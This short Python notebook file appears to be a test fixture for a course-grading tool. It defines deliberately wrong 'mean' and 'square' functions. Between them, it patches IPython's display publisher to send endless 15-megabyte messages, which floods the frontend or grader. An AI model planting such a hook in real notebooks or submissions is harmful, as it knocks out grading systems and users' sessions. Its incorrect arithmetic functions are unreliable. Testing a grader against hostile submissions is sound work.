"""Replies are sent without end, each as large as it may be."""

# %% mean
MIME = "application/x-gan-course-seen"


def mean(values):
    return sum(values)


pub = get_ipython().display_pub
old = pub.publish


def new(data, *a, **k):
    old({MIME: data[MIME][:16] + "x" * 15_000_000})
    large = "x" * 15_000_000
    while True:
        old({MIME: large})


pub.publish = new


# %% square
def square(x):
    return 2 * x
